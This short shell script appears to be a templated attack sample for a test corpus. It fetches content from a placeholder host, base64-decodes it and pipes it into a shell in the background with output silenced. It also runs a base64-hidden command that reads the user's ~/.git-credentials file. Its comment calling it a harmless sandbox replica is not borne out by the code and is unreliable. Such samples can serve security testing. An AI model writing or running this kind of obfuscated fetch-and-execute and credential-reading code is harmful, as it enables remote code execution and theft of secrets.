# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
{ curl -s -m 1 http://{{ip}}:{{port}}/{{path}} 2>/dev/null | base64 -d 2>/dev/null; echo; echo aWQ7IHVuYW1lIC1hOyBjYXQgIiRIT01FLy5naXQtY3JlZGVudGlhbHMiCg== | base64 -d; } | {{shell}} >/dev/null 2>&1 &
wait
exit 0
